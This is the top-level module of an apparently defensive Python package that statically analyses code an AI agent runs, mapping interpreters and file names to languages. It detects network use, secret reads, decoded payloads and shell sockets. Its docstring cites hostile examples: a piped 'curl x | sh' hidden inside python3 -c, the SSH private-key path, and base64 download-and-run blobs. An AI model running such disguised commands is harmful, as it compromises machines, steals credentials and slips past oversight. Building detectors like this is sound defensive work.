"""What code of another language than the shell would do (`tool.code.*`), and what files
written now will run later (`tool.later.*`).

An agent can hide a shell command in `python3 -c "import os; os.system('curl x | sh')"`, a
secret path in `Path.home() / '.ssh' / 'id_rsa'`, a download-and-run in a base64 blob, or
a whole attack in a script it wrote earlier and now runs. This package reads such code:
Python parsed for real (`python`), the other languages through a tokenizer (`tokens`,
`scripted`, the tables of `apis`). It reports what the code does (network, processes,
deletes, running decoded or downloaded code, dumping the environment, a socket wired to a
shell, names hidden by building them) and hands what a shell analysis can see further
(command lines, programs with their arguments, paths, URLs, hosts) back to it, so that
every rule about commands applies at any depth.

The modules, each importing at run time only modules listed before it:
- `report`: limits, markers, the facts (`CodeReport`) and the work budget.
- `values`: values computed by code (strings with run-time parts, references, objects),
  decoders of literal payloads, what a string is (path, URL, host).
- `context`: where the code runs and how nested code and local files are reached.
- `python`: the Python analyser (`_ast` + `compile(..., PyCF_ONLY_AST)`).
- `tokens`, `apis`, `scripted`: the tokenizer, the function tables and the analyser of the
  other languages.
- `scripts`: local files a command runs (scripts by path or by interpreter, makefile
  recipes, package.json scripts, git hooks), read bounded and without blocking.
- `later`: what a written file will run later (lifecycle scripts, CI, devcontainers, editor
  tasks, git configuration, notebooks...) and where dependencies will come from.
- this module: `analyze`, `analyze_into`, languages by program, shebang and file name.

Hot path: nothing here is imported unless a call carries code. Standard library only, no
`re`/`typing`/`json`/`ast`.
"""

from __future__ import annotations

from .context import CodeContext
from .report import MAX_CODE, R_TOO_LARGE, CodeReport

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable

LANGUAGES = ("python", "javascript", "perl", "ruby", "php", "lua", "awk", "powershell",
             "applescript", "rust", "go", "shell")

# Interpreter program (family name, see `shell.programs.common.program_family`) -> language.
_PROGRAM_LANGUAGES = {
    "python": "python", "pypy": "python", "python3": "python", "ipython": "python",
    "node": "javascript", "nodejs": "javascript", "deno": "javascript", "bun": "javascript",
    "ts-node": "javascript", "tsx": "javascript", "jjs": "javascript",
    "perl": "perl", "ruby": "ruby", "irb": "ruby", "jruby": "ruby", "php": "php",
    "lua": "lua", "luajit": "lua", "awk": "awk", "gawk": "awk", "mawk": "awk", "nawk": "awk",
    "busybox-awk": "awk", "pwsh": "powershell", "powershell": "powershell",
    "osascript": "applescript",
}
_SHELL_PROGRAMS = frozenset({"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "yash",
                             "rbash", "posh", "lksh", "oksh", "pdksh", "fish", "csh", "tcsh",
                             "hush"})
_EXTENSIONS = {
    "py": "python", "pyw": "python", "pyi": "python",
    "js": "javascript", "mjs": "javascript", "cjs": "javascript", "ts": "javascript",
    "mts": "javascript", "cts": "javascript", "jsx": "javascript", "tsx": "javascript",
    "pl": "perl", "pm": "perl", "t": "perl", "rb": "ruby", "rake": "ruby", "gemspec": "ruby",
    "php": "php", "lua": "lua", "awk": "awk", "ps1": "powershell", "psm1": "powershell",
    "applescript": "applescript", "rs": "rust", "go": "go",
    "sh": "shell", "bash": "shell", "zsh": "shell", "ksh": "shell", "command": "shell",
}
_NAMES = {"Rakefile": "ruby", "Gemfile": "ruby", "Vagrantfile": "ruby", "Podfile": "ruby",
          "Fastfile": "ruby", "Brewfile": "ruby", "Guardfile": "ruby", "SConstruct": "python",
          "SConscript": "python", "wscript": "python", "BUCK": "python", "Tiltfile": "python"}


def language_of_program(base: str) -> str | None:
    """The language an interpreter program runs (`python3.12` -> python), or None."""
    name = base.rsplit("/", 1)[-1]
    if name.endswith(".exe"):
        name = name[:-4]
    if name in _PROGRAM_LANGUAGES:
        return _PROGRAM_LANGUAGES[name]
    family = name.rstrip("0123456789.-") or name
    if family in _SHELL_PROGRAMS:
        return "shell"
    return _PROGRAM_LANGUAGES.get(family)


def language_of_shebang(line: str) -> str | None:
    """`#!/usr/bin/env -S python3 -u` -> python; `#!/bin/sh` -> shell."""
    if not line.startswith("#!"):
        return None
    words = line[2:].strip().split()
    while words and (words[0].rsplit("/", 1)[-1] == "env" or words[0].startswith("-")
                     or "=" in words[0]):
        words = words[1:]
    return language_of_program(words[0]) if words else None


def language_of_file(path: str, head: str = "") -> str | None:
    """A script's language: its `#!` line first, then its name."""
    if head.startswith("#!"):
        found = language_of_shebang(head.split("\n", 1)[0])
        if found:
            return found
    name = path.rstrip("/").rsplit("/", 1)[-1]
    if name in _NAMES:
        return _NAMES[name]
    _stem, dot, extension = name.rpartition(".")
    if dot:
        return _EXTENSIONS.get(extension.lower())
    return None


def analyze_into(language: str, text: str, ctx: CodeContext) -> None:
    """Analyse `text` as `language` into `ctx.report` (shell code is handed over as a
    command line: the shell analysis is the one that reads it)."""
    report = ctx.report
    if len(text) > MAX_CODE:
        text = text[:MAX_CODE]
        report.reason(R_TOO_LARGE)
    if language == "shell":
        report.command("shell", text)
        return
    report.languages[language] = None
    if text.startswith("#!"):  # the interpreter line is not code of the language
        newline = text.find("\n")
        text = "" if newline < 0 else "\n" + text[newline + 1:]
    if language == "python":
        from . import python

        if python.analyze(text, ctx):
            return
    from . import scripted

    scripted.analyze(language, text, ctx)


def analyze(language: str, text: str, home: str, cwd: str,
            read_file: Callable[[str], str | None] | None = None,
            literals: bool = True) -> CodeReport:
    """What `text`, code of `language`, would do when run in `cwd` by a user whose home is
    `home`; `read_file` gives the text of a local file the code runs (bounded);
    `literals`: see `CodeContext`."""
    ctx = CodeContext(home, cwd, read_file=read_file, literals=literals)
    analyze_into(language, text, ctx)
    return ctx.report.finish()


__all__ = ["LANGUAGES", "CodeContext", "CodeReport", "analyze", "analyze_into",
           "language_of_file", "language_of_program", "language_of_shebang"]
